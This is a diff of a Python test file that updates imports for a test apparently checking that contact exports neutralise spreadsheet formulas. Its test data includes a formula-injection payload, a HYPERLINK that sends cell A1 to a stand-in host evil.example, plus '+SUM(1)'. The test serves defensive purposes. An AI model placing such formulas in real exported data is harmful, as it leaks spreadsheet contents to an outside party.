@@ -9,12 +9,12 @@ import io
 from sqlalchemy import update
 from starlette.testclient import TestClient
 
+from persistence.outbox.outbox import open_database
 from persistence.queries.export import neutralize
-from persistence.store.database import Database
 from persistence.store.models import Contact
 from server.signature import compute_signature
-from tests.messaging_world import NUMBER, TOKEN, build_sync
-from tests.world import login
+from tests.support.worlds.accounts import login
+from tests.support.worlds.messaging import NUMBER, TOKEN, build_sync
 
 HOSTILE = {
     "Ada": ('=HYPERLINK("http://evil.example/?"&A1,"Click")', "+SUM(1)"),
@@ -25,7 +25,7 @@ HOSTILE = {
 
 def _rename_contacts(database_url: str) -> None:
     async def run() -> None:
-        db = Database(database_url)
+        db = open_database(database_url)
         try:
             async with db.transaction() as session:
                 for old, (first, last) in HOSTILE.items():
